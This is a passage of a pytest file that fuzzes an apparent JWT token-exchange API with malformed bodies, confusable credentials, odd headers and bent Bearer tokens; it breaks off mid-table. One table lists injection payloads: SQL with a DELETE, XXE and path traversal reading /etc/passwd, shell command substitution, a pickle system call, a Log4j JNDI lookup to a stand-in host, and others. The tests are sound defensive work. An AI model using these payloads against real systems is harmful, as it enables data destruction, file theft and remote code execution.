"""Requests bent by hand, a table for each place where they can be bent: what is refused, and in which words.

Each row bends one thing of a good request, so that what reads it less strictly would accept it.
"""

import gzip
import json
import re
from base64 import b64encode
from io import BytesIO
from urllib.parse import quote, urlencode

import pytest

from tests.support.hostile import (
    ANONYMOUS,
    FORBIDDEN,
    FORM,
    INVALID,
    JSON,
    MALFORMED,
    MARKER,
    NOT_ALLOWED,
    NOT_AUTHENTICATED,
    NOT_FOUND,
    TOKEN_INVALID,
    TOKEN_MALFORMED,
    TOKEN_REVOKED,
    TOO_LARGE,
    UNSUPPORTED,
    Good,
    error,
    fault,
    refused,
    refused_by_us,
    rows,
    send,
    stored,
)
from tests.support.keys_client import KEYS_URL, url_of
from tests.support.requests import TOKEN_URL, body
from tests.support.tokens import claims_for, sign
from tot_jwt.api.requests import (
    NOT_A_BOOLEAN,
    NOT_A_GRACE,
    NOT_A_MOMENT,
    NOT_NETWORKS,
    TOO_LATE,
    UNKNOWN_MEMBER,
)
from tot_jwt.api.requests import NOT_SCOPES as NOT_SCOPES_OF_A_KEY
from tot_jwt.http.credentials import CREDENTIALS, NOT_SCOPES
from tot_jwt.http.reading import BLANK, NOT_A_STRING, NUL_CHARACTER, REQUIRED, SURROGATE, TOO_LONG

pytestmark = pytest.mark.usefixtures("unlimited")

DOMAIN = "kiosk.example.com"
FULLWIDTH = {code: code + 0xFEE0 for code in range(ord("!"), ord("~") + 1)}
ALL_MISSING = fault(*CREDENTIALS, told=REQUIRED)


@pytest.fixture
def good(make_key, make_token):
    """The only key of its domain, with a token."""
    key = make_key(app_domain__domain=DOMAIN, scopes=["orders:read"])
    return Good(key, make_token(key))


@pytest.fixture
def nothing_changes(good):
    before = stored()
    yield
    assert stored() == before


def test_what_is_bent_below_is_good_as_it_stands(good):
    assert send("POST", sent=good.json).status_code == 200
    assert send("POST", sent=good.form, content_type=FORM).status_code == 200
    assert send(headers=good.bearer).status_code == 200
    assert send("POST", "/keys-only", good.json).status_code == 200
    assert send(path="/keys-only", headers=good.headers).status_code == 200
    assert (
        send("POST", KEYS_URL, b'{"name": "x", "scopes": []}', headers=good.bearer).status_code
        == 201
    )


# The body


BODIES = {
    "nothing at all": (lambda good: b"", MALFORMED),
    "byte order mark": (lambda good: b"\xef\xbb\xbf" + good.json, MALFORMED),
    "UTF-16": (lambda good: good.json.decode().encode("utf-16"), MALFORMED),
    "UTF-32": (lambda good: good.json.decode().encode("utf-32"), MALFORMED),
    "UTF-7": (lambda good: good.json.replace(b'"', b"+ACI-"), MALFORMED),
    "overlong UTF-8": (lambda good: good.json.replace(b"pk_", b"\xc1\xb0k_"), MALFORMED),
    "UTF-8 of a surrogate": (
        lambda good: good.json_with(x="?").replace(b"?", b"\xed\xa0\x80"),
        MALFORMED,
    ),
    "UTF-8 beyond Unicode": (
        lambda good: good.json_with(x="?").replace(b"?", b"\xf4\x90\x80\x80"),
        MALFORMED,
    ),
    "compressed": (lambda good: gzip.compress(good.json), MALFORMED),
    "member twice": (lambda good: good.json_and('"totSecretKey": "wrong"'), MALFORMED),
    "member twice, the same": (
        lambda good: good.json_and(f'"appDomain": "{good.domain}"'),
        MALFORMED,
    ),
    "member twice, one name escaped": (
        lambda good: good.json_and(r'"tot\u0041piKey": "wrong"'),
        MALFORMED,
    ),
    "NaN": (lambda good: good.json_and('"x": NaN'), MALFORMED),
    "minus infinity": (lambda good: good.json_and('"x": [-Infinity]'), MALFORMED),
    "octal number": (lambda good: good.json_and('"x": 0777'), MALFORMED),
    "hexadecimal number": (lambda good: good.json_and('"x": 0xff'), MALFORMED),
    "33 levels of objects": (
        lambda good: good.json_and('"x": ' + '{"x": ' * 32 + "0" + "}" * 32),
        MALFORMED,
    ),
    "33 levels of both kinds": (
        lambda good: good.json_and('"x": ' + '[{"x": ' * 16 + "0" + "}]" * 16),
        MALFORMED,
    ),
    "nesting as deep as it fits": (
        lambda good: good.json_and('"x": ' + "[" * 3900 + "]" * 3900),
        MALFORMED,
    ),
    "nesting without an end": (lambda good: good.json_and('"x": ' + '{"":' * 1900), MALFORMED),
    "in a list": (lambda good: b"[" + good.json + b"]", MALFORMED),
    "in a string": (lambda good: json.dumps(good.json.decode()).encode(), MALFORMED),
    "two objects": (lambda good: good.json + good.json, MALFORMED),
    "two lines": (lambda good: good.json + b"\n" + good.json, MALFORMED),
    "garbage at the end": (lambda good: good.json + b";", MALFORMED),
    "NUL at the end": (lambda good: good.json + b"\0", MALFORMED),
    "vertical tab before": (lambda good: b"\x0b" + good.json, MALFORMED),
    "no-break space before": (lambda good: "\u00a0".encode() + good.json, MALFORMED),
    "prefix against hijacking": (lambda good: b")]}',\n" + good.json, MALFORMED),
    "callback": (lambda good: b"zebra7(" + good.json + b")", MALFORMED),
    "comment": (lambda good: good.json + b"/* */", MALFORMED),
    "comment of a line": (lambda good: b"// x\n" + good.json, MALFORMED),
    "single quotes": (lambda good: good.json.replace(b'"', b"'"), MALFORMED),
    "names without quotes": (
        lambda good: good.json.replace(b'"appDomain"', b"appDomain"),
        MALFORMED,
    ),
    "comma at the end": (lambda good: good.json[:-1] + b",}", MALFORMED),
    "line's end in a string": (lambda good: good.json_with(x="?").replace(b"?", b"\n"), MALFORMED),
    "escape of another language": (lambda good: good.json.replace(b"pk_", rb"\x70k_"), MALFORMED),
    "cut short": (lambda good: good.json[:-1], MALFORMED),
    "form": (lambda good: good.form, MALFORMED),
    "YAML": (lambda good: good.json[1:-1].replace(b", ", b"\n").replace(b'"', b""), MALFORMED),
    "credentials one level down": (lambda good: b'{"data": ' + good.json + b"}", ALL_MISSING),
    "credentials in a prototype": (lambda good: b'{"__proto__": ' + good.json + b"}", ALL_MISSING),
    "names in lower case": (lambda good: good.json.lower(), ALL_MISSING),
    "name with a space": (
        lambda good: good.json.replace(b"Domain", b"Domain "),
        fault("appDomain", told=REQUIRED),
    ),
    "name with a NUL": (
        lambda good: good.json.replace(b"totApiKey", rb"totApiKey\u0000"),
        fault("totApiKey", told=REQUIRED),
    ),
    "name in full width": (
        lambda good: good.json.replace(
            b"totSecretKey", "totSecretKey".translate(FULLWIDTH).encode()
        ),
        fault("totSecretKey", told=REQUIRED),
    ),
    "value in a list": (
        lambda good: good.json_with(totSecretKey=[good.secret]),
        fault("totSecretKey", told=NOT_A_STRING),
    ),
    "operator of a database": (
        lambda good: good.json_with(totApiKey={"$ne": ""}, totSecretKey={"$gt": ""}),
        fault("totApiKey", "totSecretKey", told=NOT_A_STRING),
    ),
    "true": (
        lambda good: good.json_with(totSecretKey=True),
        fault("totSecretKey", told=NOT_A_STRING),
    ),
    "infinite number": (
        lambda good: good.json.replace(b'"' + good.secret.encode() + b'"', b"1e999"),
        fault("totSecretKey", told=NOT_A_STRING),
    ),
    "number of 7,000 digits": (
        lambda good: good.json.replace(b'"' + good.secret.encode() + b'"', b"7" * 7000),
        fault("totSecretKey", told=NOT_A_STRING),
    ),
    "surrogate in a value": (
        lambda good: good.json_with(totSecretKey=good.secret + "\udc00"),
        fault("totSecretKey", told=SURROGATE),
    ),
    "NUL in a value": (
        lambda good: good.json_with(appDomain=good.domain + "\0"),
        fault("appDomain", told=NUL_CHARACTER),
    ),
    "space of another script": (
        lambda good: good.json_with(appDomain="\u3000\u2003"),
        fault("appDomain", told=BLANK),
    ),
    "513 characters beyond the BMP": (
        lambda good: good.json_with(totSecretKey="\U0001f993" * 513),
        fault("totSecretKey", told=TOO_LONG.format(512)),
    ),
    "512 characters beyond the BMP": (
        lambda good: good.json_with(totSecretKey="\U0001f993" * 512),
        INVALID,
    ),
}


@pytest.mark.req("B4", "C3", "C5")
@pytest.mark.usefixtures("nothing_changes")
@pytest.mark.parametrize(("bend", "expected"), rows(BODIES))
def test_hostile_body_is_not_exchanged(good, bend, expected):
    assert refused_by_us(send("POST", sent=bend(good)), expected, good)


@pytest.mark.req("B5", "C3")
@pytest.mark.parametrize(("bend", "expected"), rows(BODIES))
def test_hostile_body_lets_nobody_in(good, bend, expected):
    answer = send("POST", "/keys-only", bend(good))

    assert (
        refused(answer, expected, good) if expected == INVALID else answer.status_code in (400, 401)
    )


GOOD_BODIES = {
    "what others send, repeated": lambda good: good.json_and('"x": 1, "x": 2'),
    "their lone surrogate": lambda good: good.json_with(x="\ud800"),
    "their infinite number": lambda good: good.json_and('"x": 1e999'),
    "their prototype": lambda good: good.json_and('"__proto__": {"totSecretKey": ""}'),
    "32 levels": lambda good: good.json_and('"x": ' + "[" * 31 + "]" * 31),
    "brackets in a string": lambda good: good.json_with(x="[" * 5000),
    "good name escaped": lambda good: good.json.replace(b"totApiKey", rb"\u0074otApiKey"),
    "white space of JSON": lambda good: b"\r\n\t " + good.json + b"\r\n\t ",
    "surrogates in a pair": lambda good: good.json_with(x="\U0001f993"),
}


@pytest.mark.req("C3")
@pytest.mark.parametrize("bend", GOOD_BODIES.values(), ids=GOOD_BODIES)
def test_body_that_only_looks_hostile_is_exchanged(good, bend):
    assert send("POST", sent=bend(good)).status_code == 200
    assert send("POST", "/anyone", bend(good)).json() == {"pk": good.public_key}


FORMS = {
    "no names": (
        lambda good: b"&".join(part.partition(b"=")[2] for part in good.form.split(b"&")),
        ALL_MISSING,
    ),
    "JSON": (lambda good: good.json, ALL_MISSING),
    "semicolons": (
        lambda good: good.form.replace(b"&", b";"),
        fault("totApiKey", "totSecretKey", told=REQUIRED),
    ),
    "question mark before": (lambda good: b"?" + good.form, fault("appDomain", told=REQUIRED)),
    "names of lists": (
        lambda good: good.form.replace(b"totSecretKey", b"totSecretKey[]"),
        fault("totSecretKey", told=REQUIRED),
    ),
    "name twice": (lambda good: good.form + b"&totSecretKey=", MALFORMED),
    "name twice, once escaped": (lambda good: b"tot%53ecretKey=wrong&" + good.form, MALFORMED),
    "name escaped twice": (
        lambda good: good.form.replace(b"appDomain", b"app%2544omain"),
        fault("appDomain", told=REQUIRED),
    ),
    "name escaped for another language": (
        lambda good: good.form.replace(b"appDomain", b"app%u0044omain"),
        fault("appDomain", told=REQUIRED),
    ),
    "NUL": (lambda good: good.form + b"%00", fault("totSecretKey", told=NUL_CHARACTER)),
    "bytes of Latin-1": (lambda good: good.form + b"&x=\xe9", MALFORMED),
    "escapes of Latin-1": (lambda good: good.form + b"&x=%e9", MALFORMED),
    "escapes of a surrogate": (lambda good: good.form + b"&x=%ed%a0%80", MALFORMED),
    "overlong escapes": (lambda good: good.form.replace(b".", b"%c0%ae"), MALFORMED),
    "1,001 fields": (lambda good: good.form + b"&a=b" * 998, MALFORMED),
    "byte order mark": (lambda good: b"%EF%BB%BF" + good.form, fault("appDomain", told=REQUIRED)),
    "UTF-16": (lambda good: good.form.decode().encode("utf-16"), MALFORMED),
    "parts": (
        lambda good: (
            b'--x\r\nContent-Disposition: form-data; name="appDomain"\r\n\r\n'
            + good.form
            + b"\r\n--x--"
        ),
        fault("appDomain", told=REQUIRED),
    ),
    "plus for a space": (lambda good: good.form + b"+", INVALID),
    "line's end": (lambda good: good.form + b"\r\n", INVALID),
    "broken escape": (lambda good: good.form + b"%", INVALID),
    "escape of no digits": (lambda good: good.form + b"%zz", INVALID),
    "value in quotes": (
        lambda good: good.form.replace(b"totSecretKey=", b'totSecretKey="') + b'"',
        INVALID,
    ),
}


@pytest.mark.req("B4", "C3", "C5")
@pytest.mark.usefixtures("nothing_changes")
@pytest.mark.parametrize(("bend", "expected"), rows(FORMS))
def test_hostile_form_is_not_exchanged(good, bend, expected):
    assert refused_by_us(send("POST", sent=bend(good), content_type=FORM), expected, good)


@pytest.mark.req("B5", "C3")
@pytest.mark.parametrize(("bend", "expected"), rows(FORMS))
def test_hostile_form_lets_nobody_in(good, bend, expected):
    answer = send("POST", "/keys-only", bend(good), content_type=FORM)

    assert (
        refused(answer, expected, good) if expected == INVALID else answer.status_code in (400, 401)
    )


GOOD_FORMS = {
    "name escaped": lambda good: good.form.replace(b"S", b"%53", 1),
    "everything escaped": lambda good: re.sub(
        rb"[^&=]", lambda match: b"%%%02X" % ord(match[0]), good.form
    ),
    "charset that old browsers send": lambda good: b"_charset_=utf-16&" + good.form,
    "empty fields": lambda good: b"&&&" + good.form + b"&=&&",
    "1,000 fields": lambda good: good.form + b"&a=b" * 997,
}


@pytest.mark.req("C3")
@pytest.mark.parametrize("bend", GOOD_FORMS.values(), ids=GOOD_FORMS)
def test_form_that_only_looks_hostile_is_exchanged(good, bend):
    assert send("POST", sent=bend(good), content_type=FORM).status_code == 200
    assert send("POST", "/anyone", bend(good), content_type=FORM).json() == {"pk": good.public_key}


# The credentials


DOMAINS = {
    "full width": lambda domain: domain.translate(FULLWIDTH),
    "letter in a circle": lambda domain: domain.replace("e", "ⓔ"),
    "Kelvin sign": lambda domain: domain.replace("k", "\u212a"),
    "long s": lambda domain: domain.replace("s", "\u017f"),
    "Cyrillic": lambda domain: domain.replace("o", "\u043e"),
    "combining accent": lambda domain: domain.replace("e", "e\u0301"),
    "zero width": lambda domain: domain.replace("k", "k\u200b"),
    "soft hyphen": lambda domain: domain.replace("k", "k\u00ad"),
    "right to left": lambda domain: f"\u202e{domain[::-1]}",
    "ideographic full stop": lambda domain: domain.replace(".", "\u3002"),
    "full stop at the end": lambda domain: f"{domain}.",
    "full stop at the beginning": lambda domain: f".{domain}",
    "two full stops": lambda domain: domain.replace(".", "..", 1),
    "punycode": lambda domain: f"xn--{domain}-",
    "wildcard": lambda domain: domain.replace("kiosk", "*"),
    "parent": lambda domain: domain.partition(".")[2],
    "child": lambda domain: f"www.{domain}",
    "port": lambda domain: f"{domain}:443",
    "URL": lambda domain: f"https://{domain}/",
    "user": lambda domain: f"zebra7@{domain}",
    "line's end": lambda domain: f"{domain}\n",
    "escape": lambda domain: domain.replace(".", "%2e"),
    "list": lambda domain: f"{domain},{domain}",
}
PUBLIC_KEYS = {
    "upper case": str.upper,
    "space at the end": lambda public_key: f"{public_key} ",
    "spaces at both ends": lambda public_key: f" {public_key} ",
    "line's end": lambda public_key: f"{public_key}\n",
    "no-break space": lambda public_key: f"{public_key}\u00a0",
    "accent": lambda public_key: public_key.replace("k", "\u1e31", 1),
    "accent on its own": lambda public_key: public_key.replace("k", "k\u0301", 1),
    "full width": lambda public_key: public_key.translate(FULLWIDTH),
    "what sorting ignores": lambda public_key: f"{public_key}\u00ad\u200d\ufeff",
    "beyond the BMP": lambda public_key: f"{public_key}\U0001f993",
    "wildcard": lambda public_key: "pk_live_tot_%",
    "wildcards": lambda public_key: "_" * len(public_key),
    "regular expression": lambda public_key: "^pk.*$",
    "list": lambda public_key: f"{public_key},{public_key}",
    "in quotes": lambda public_key: f'"{public_key}"',
}
SECRETS = {
    "upper case": str.upper,
    "line's end": lambda secret: f"{secret}\n",
    "all but its end": lambda secret: secret[:-1],
    "only its end": lambda secret: secret[-4:],
    "twice": lambda secret: secret * 2,
    "Base64": lambda secret: b64encode(secret.encode()).decode(),
    "full width": lambda secret: secret.translate(FULLWIDTH),
    "zero width": lambda secret: f"{secret}\u200b",
    "in quotes": lambda secret: f"'{secret}'",
    "with its scheme": lambda secret: f"Bearer {secret}",
    "wildcard": lambda secret: "sk_live_tot_%",
}
PAYLOADS = {
    "SQL": "' OR '1'='1' -- ",
    "SQL, stacked": "x'; DELETE FROM tot_jwt_apikey; --",
    "SQL, with a backslash": "\\' OR 1=1 #",
    "LDAP": "*)(uid=*))(|(uid=*",
    "XPath": "' or ''='",
    "format string of C": "%s%s%n%x",
    "format string of Python": "{0.__class__.__init__.__globals__}",
    "placeholder of a database": "%(public_key)s",
    "template": "{{7*7}}${7*7}<%= 7*7 %>",
    "line's end and a header": "zebra7\r\nSet-Cookie: zebra7=1\r\n\r\n",
    "line's end and a line of a log": "zebra7\nTokens issued: key=pk_live_admin",
    "terminal": "\x1b]0;zebra7\x07\x1b[2J",
    "Log4j": "${jndi:ldap://zebra7.example.com/a}",
    "script": "<script>alert('zebra7')</script>",
    "XML": '<!DOCTYPE x [<!ENTITY x SYSTEM "file:///etc/passwd">]><x>&x;</x>',
    "path": "../../../../etc/passwd",
    "shell": "$(touch /tmp/zebra7)`touch /tmp/zebra7`",
    "pickle": "cos\nsystem\n(S'true'\ntR.",
    "spreadsheet": '=HYPERLINK("https://zebra7.example.com")',
    "words of languages": "None",
    "slow regular expression": "a-" * 63 + "!",
}
SPELLINGS = {
    **{f"domain: {name}": ("appDomain", bend) for name, bend in DOMAINS.items()},
    **{f"public key: {name}": ("totApiKey", bend) for name, bend in PUBLIC_KEYS.items()},
    **{f"secret: {name}": ("totSecretKey", bend) for name, bend in SECRETS.items()},
}


def everywhere(key, **credentials):
    """The answers to the credentials in JSON and in a form, exchanged and used directly."""
    sent = body(key, **credentials)
    for path in (TOKEN_URL, "/keys-only"):
        yield send("POST", path, json.dumps(sent).encode())
        yield send("POST", path, urlencode(sent).encode(), content_type=FORM)


@pytest.mark.req("B4", "B5", "C4", "C5")
@pytest.mark.usefixtures("nothing_changes")
@pytest.mark.parametrize(("field", "bend"), rows(SPELLINGS))
def test_credentials_are_their_exact_characters(good, field, bend):
    bent = {field: bend(body(good.key)[field])}

    assert all(refused(answer, INVALID, good) for answer in everywhere(good.key, **bent))


@pytest.mark.req("B4", "B5", "C5")
@pytest.mark.usefixtures("nothing_changes")
@pytest.mark.parametrize("field", CREDENTIALS)
@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=PAYLOADS)
def test_payload_is_a_wrong_credential_like_any_other(good, field, payload):
    assert all(
        refused(answer, INVALID, good) for answer in everywhere(good.key, **{field: payload})
    )


def test_domain_in_upper_case_is_the_same_domain(good):
    assert [answer.status_code for answer in everywhere(good.key, appDomain=DOMAIN.upper())] == [
        200
    ] * 4


SCOPES = {
    "tab between": ("orders:read\tkeys:manage", fault("scopes", told=NOT_SCOPES)),
    "line's end": ("orders:read\n", fault("scopes", told=NOT_SCOPES)),
    "no-break space between": ("orders:read\u00a0keys:manage", fault("scopes", told=NOT_SCOPES)),
    "NUL": ("orders:read\0", fault("scopes", told=NOT_SCOPES)),
    "surrogate": (["orders:read\ud800"], fault("scopes", told=NOT_SCOPES)),
    "list in a list": ([["orders:read"]], fault("scopes", told=NOT_SCOPES)),
    "null in a list": (["orders:read", None], fault("scopes", told=NOT_SCOPES)),
    "two in one": (["orders:read keys:manage"], fault("scopes", told=NOT_SCOPES)),
    "full width": ("orders:read".translate(FULLWIDTH), fault("scopes", told=NOT_SCOPES)),
    "object": ({"orders:read": True}, fault("scopes", told=NOT_SCOPES)),
    "upper case": ("ORDERS:READ", FORBIDDEN),
    "wildcard": ("*", FORBIDDEN),
    "wildcard of a resource": ("orders:*", FORBIDDEN),
    "commas": ("orders:read,keys:manage", FORBIDDEN),
    "2,000 of them": (["zebra7"] * 700 + ["orders:read"], FORBIDDEN),
    "as long as fits": ("z" * 7900, FORBIDDEN),
}


@pytest.mark.req("B4", "C5")
@pytest.mark.usefixtures("nothing_changes")
@pytest.mark.parametrize(("scopes", "expected"), rows(SCOPES))
def test_hostile_scopes_are_not_granted(good, scopes, expected):
    assert refused_by_us(send("POST", sent=good.json_with(scopes=scopes)), expected, good)


# The rest of the exchange


CONTENT_TYPES = {
    "none": ("", UNSUPPORTED),
    "text that a browser may send anywhere": ("text/plain", UNSUPPORTED),
    "parts": ("multipart/form-data; boundary=x", UNSUPPORTED),
    "list": ("application/json, application/json", UNSUPPORTED),
    "pattern": ("application/*", UNSUPPORTED),
    "everything": ("*/*", UNSUPPORTED),
    "old name": ("text/json", UNSUPPORTED),
    "kind of JSON": ("application/problem+json", UNSUPPORTED),
    "charset alone": ("charset=utf-8", UNSUPPORTED),
    "comma for a semicolon": ("application/json, charset=utf-8", UNSUPPORTED),
    "no type": ("json", UNSUPPORTED),
    "NUL": ("application/json\0", UNSUPPORTED),
    "Latin-1": ("application/json\xe9", UNSUPPORTED),
    "charset UTF-16": ("application/json; charset=utf-16", UNSUPPORTED),
    "charset UTF-7": ("application/json; charset=utf-7", UNSUPPORTED),
    "charset of nobody": ("application/json; charset=zebra7", UNSUPPORTED),
    "charset twice": ("application/json; charset=utf-8; charset=latin-1", UNSUPPORTED),
    "charset of RFC 2231": ("application/json; charset*=us-ascii''utf-16", UNSUPPORTED),
    "charset empty": ("application/json; charset=", UNSUPPORTED),
    # Codecs of Python's own.
    "codec rot13": ("application/json; charset=rot13", UNSUPPORTED),
    "codec zlib": ("application/json; charset=zlib", UNSUPPORTED),
    "codec punycode": ("application/json; charset=punycode", UNSUPPORTED),
    "codec undefined": ("application/json; charset=undefined", UNSUPPORTED),
    "codec unicode_escape": ("application/json; charset=unicode_escape", UNSUPPORTED),
}


@pytest.mark.req("C3", "C5")
@pytest.mark.usefixtures("nothing_changes")
@pytest.mark.parametrize(("content_type", "expected"), rows(CONTENT_TYPES))
def test_hostile_content_type_is_unsupported(good, content_type, expected):
    assert refused_by_us(send("POST", sent=good.json, content_type=content_type), expected, good)


@pytest.mark.req("C3", "C5")
@pytest.mark.parametrize("charset", ["utf-16", "utf-32-le", "cp037", "zebra7"])
def test_charset_of_the_body_does_not_hide_what_is_in_the_query(good, charset):
    content_type = f"{JSON}; charset={charset}"

    answers = [
        send("POST", f"{TOKEN_URL}?totApiKey=zebra7", good.json, content_type),
        send("POST", "/anyone?totApiKey=zebra7", good.json, content_type),
        send("DELETE", f"{url_of(good.key)}?force=zebra7", b"", content_type, good.bearer),
        send("GET", f"{KEYS_URL}?page=zebra7", b"", content_type, good.bearer),
        send("GET", f"{KEYS_URL}?status=zebra7", b"", content_type, good.bearer),
    ]

    assert [answer.status_code for answer in answers] == [400, 400, 400, 404, 400]
    assert all(refused(answer, (answer.status_code, answer.json()), good) for answer in answers)


LENGTHS = {
    "none": (lambda good: {"CONTENT_LENGTH": ""}, MALFORMED),
    "nothing": (lambda good: {"CONTENT_LENGTH": "0"}, MALFORMED),
    "negative": (lambda good: {"CONTENT_LENGTH": "-1"}, MALFORMED),
    "text": (lambda good: {"CONTENT_LENGTH": "zebra7"}, MALFORMED),
    "list": (lambda good: {"CONTENT_LENGTH": f"{len(good.json)}, {len(good.json)}"}, MALFORMED),
    "hexadecimal": (lambda good: {"CONTENT_LENGTH": hex(len(good.json))}, MALFORMED),
    "fraction": (lambda good: {"CONTENT_LENGTH": f"{len(good.json)}.0"}, MALFORMED),
    "digits of Latin-1": (lambda good: {"CONTENT_LENGTH": "\xb2"}, MALFORMED),
    "one too few": (lambda good: {"CONTENT_LENGTH": str(len(good.json) - 1)}, MALFORMED),
    "more than comes": (
        lambda good: {"CONTENT_LENGTH": "500", "wsgi.input": BytesIO(good.json[:-1])},
        MALFORMED,
    ),
    "nothing comes": (lambda good: {"CONTENT_LENGTH": "500", "wsgi.input": BytesIO()}, MALFORMED),
    "the line breaks": (
        lambda good: {"CONTENT_LENGTH": "500", "wsgi.input": BrokenLine()},
        MALFORMED,
    ),
    "chunks": (lambda good: {"CONTENT_LENGTH": "", "HTTP_TRANSFER_ENCODING": "chunked"}, MALFORMED),
    "too much": (
        lambda good: {"CONTENT_LENGTH": "8193", "wsgi.input": BytesIO(good.json[:-1])},
        TOO_LARGE,
    ),
    "too much for any computer": (lambda good: {"CONTENT_LENGTH": "9" * 40}, TOO_LARGE),
    "too many digits for Python": (lambda good: {"CONTENT_LENGTH": "9" * 5000}, MALFORMED),
}


class BrokenLine(BytesIO):
    """A connection that ends while its body is read."""

    def read(self, size=-1):
        raise OSError("zebra7")


@pytest.mark.req("C3", "C5")
@pytest.mark.usefixtures("nothing_changes")
@pytest.mark.parametrize(("bend", "expected"), rows(LENGTHS))
def test_hostile_length_is_refused(good, bend, expected):
    assert refused_by_us(send("POST", sent=good.json, **bend(good)), expected, good)
    assert send("POST", "/keys-only", good.json, **bend(good)).status_code in (400, 401, 413)


QUERIES = {
    "a key": ("?totApiKey=zebra7", MALFORMED),
    "a key without a value": ("?totSecretKey", MALFORMED),
    "name escaped": ("?tot%41piKey=zebra7", MALFORMED),
    "name escaped as a whole": (
        f"?{''.join(f'%{ord(letter):02X}' for letter in 'totSecretKey')}=",
        MALFORMED,
    ),
    "between others": ("?x=%ff&&=&totApiKey=&x", MALFORMED),
    "1,001 fields": ("?" + "a=b&" * 1001, MALFORMED),
}


@pytest.mark.req("C3", "C5")
@pytest.mark.usefixtures("nothing_changes")
@pytest.mark.parametrize(("query", "expected"), rows(QUERIES))
def test_hostile_query_of_an_exchange_is_refused(good, query, expected):
    assert refused_by_us(send("POST", TOKEN_URL + query, good.json), expected, good)


METHODS = [
    "OPTIONS",
    "TRACE",
    "CONNECT",
    "PUT",
    "PATCH",
    "DELETE",
    "ZEBRA7",
    "GETT",
    "__CLASS__",
    "HTTP_METHOD_NOT_ALLOWED",
]


@pytest.mark.req("C5")
@pytest.mark.usefixtures("nothing_changes")
@pytest.mark.parametrize("method", METHODS)
def test_hostile_method_is_not_allowed(good, method):
    answer = send(method, sent=good.json, headers=good.bearer)

    assert refused_by_us(answer, NOT_ALLOWED, good)


IGNORED = {
    "method in a header": {"HTTP_X_HTTP_METHOD_OVERRIDE": "DELETE"},
    "method in another header": {"HTTP_X_METHOD_OVERRIDE": "PUT", "HTTP_X_HTTP_METHOD": "TRACE"},
    "format": {"QUERY_STRING": "format=xml&_format=html&api=1"},
    "query of bytes": {"QUERY_STRING": "%ff%fe=%00&\xff"},
    "half of the keys in the query": {"QUERY_STRING": "appDomain=zebra7"},
    "10,000 types accepted": {"HTTP_ACCEPT": "text/html;q=0.1," * 10_000},
    "nothing accepted": {"HTTP_ACCEPT": "application/json;q=0, */*;q=0"},
    "version accepted": {"HTTP_ACCEPT": "application/json; version=zebra7; indent=100000000"},
    "charset accepted": {"HTTP_ACCEPT_CHARSET": "utf-7", "HTTP_ACCEPT_ENCODING": "zebra7;q=1"},
    "language accepted": {"HTTP_ACCEPT_LANGUAGE": "de-" * 2000},
    "cookies": {"HTTP_COOKIE": "sessionid=zebra7; csrftoken=; =; a=\xff; " + "a=b; " * 500},
    "origin": {"HTTP_ORIGIN": "null", "HTTP_REFERER": "\xff", "HTTP_SEC_FETCH_SITE": "cross-site"},
    "range": {
        "HTTP_RANGE": "bytes=0-0",
        "HTTP_IF_NONE_MATCH": "*",
        "HTTP_IF_MODIFIED_SINCE": "zebra7",
    },
    "expectation": {"HTTP_EXPECT": "zebra7"},
    "authorization": {"HTTP_AUTHORIZATION": "Bearer \xff\0"},
    "keys in headers": {"HTTP_TOT_API_KEY": "\0", "HTTP_TOT_SECRET_KEY": "\xff"},
    "proxies": {
        "HTTP_X_FORWARDED_FOR": ",,'\"\xff\0",
        "HTTP_FORWARDED": "for=zebra7;;",
        "HTTP_X_REAL_IP": "zebra7",
    },
    "addresses": {"REMOTE_ADDR": "zebra7\0", "REMOTE_HOST": "zebra7"},
    "prototype": {"HTTP_X___PROTO__": "zebra7"},
}


@pytest.mark.req("C2", "C5", "D1")
@pytest.mark.parametrize("environ", IGNORED.values(), ids=IGNORED)
def test_what_the_exchange_does_not_ask_for_changes_nothing(good, environ):
    answer = send("POST", sent=good.json, **environ)

    assert list(answer.json()) == ["token", "tokenType", "expiresIn", "expiresAt"]
    assert answer.headers["Cache-Control"] == "no-store"
    assert MARKER.encode() not in answer.serialize()


# Tokens


BEARERS = {
    "nothing": (lambda good: "Bearer", TOKEN_MALFORMED),
    "a space": (lambda good: "Bearer ", TOKEN_MALFORMED),
    "two spaces": (lambda good: f"Bearer  {good.token}", TOKEN_MALFORMED),
    "tab": (lambda good: f"Bearer\t{good.token}", NOT_AUTHENTICATED),
    "vertical tab": (lambda good: f"Bearer\x0b{good.token}", NOT_AUTHENTICATED),
    "no-break space": (lambda good: f"Bearer\xa0{good.token}", NOT_AUTHENTICATED),
    "colon": (lambda good: f"Bearer: {good.token}", NOT_AUTHENTICATED),
    "equals sign": (lambda good: f"Bearer={good.token}", NOT_AUTHENTICATED),
    "no scheme": (lambda good: good.token, NOT_AUTHENTICATED),
    "scheme twice": (lambda good: f"Bearer Bearer {good.token}", TOKEN_MALFORMED),
    "scheme of others": (lambda good: f"JWT {good.token}", NOT_AUTHENTICATED),
    "scheme in full width": (
        lambda good: f"{'Bearer'.translate(FULLWIDTH).encode().decode('latin-1')} {good.token}",
        NOT_AUTHENTICATED,
    ),
    "Basic": (
        lambda good: f"Basic {b64encode(f'{good.public_key}:{good.secret}'.encode()).decode()}",
        NOT_AUTHENTICATED,
    ),
    "the secret": (lambda good: f"Bearer {good.secret}", TOKEN_MALFORMED),
    "NUL at the end": (lambda good: f"Bearer {good.token}\0", TOKEN_MALFORMED),
    "line's end at the end": (lambda good: f"Bearer {good.token}\n", TOKEN_MALFORMED),
    "space at the end": (lambda good: f"Bearer {good.token} ", TOKEN_MALFORMED),
    "parameter": (lambda good: f"Bearer {good.token}; realm=api", TOKEN_MALFORMED),
    "parameter with a name": (lambda good: f'Bearer token="{good.token}"', TOKEN_MALFORMED),
    "two tokens": (lambda good: f"Bearer {good.token}, Bearer {good.token}", TOKEN_MALFORMED),
    "two headers": (lambda good: f"Bearer {good.token},Basic zebra7", TOKEN_MALFORMED),
    "quotes": (lambda good: f'Bearer "{good.token}"', TOKEN_MALFORMED),
    "padding": (lambda good: f"Bearer {good.token}=", TOKEN_MALFORMED),
    "padding within": (lambda good: f"Bearer {good.token.replace('.', '=.')}", TOKEN_MALFORMED),
    "alphabet of other Base64": (lambda good: f"Bearer {good.token[:-2]}+/", TOKEN_MALFORMED),
    "escaped": (lambda good: f"Bearer {good.token.replace('.', '%2E')}", TOKEN_MALFORMED),
    "full stop of another script": (
        lambda good: f"Bearer {good.token.replace('.', chr(0xB7))}",
        TOKEN_MALFORMED,
    ),
    "digits of another script": (lambda good: f"Bearer {good.token[:-1]}\xb2", TOKEN_MALFORMED),
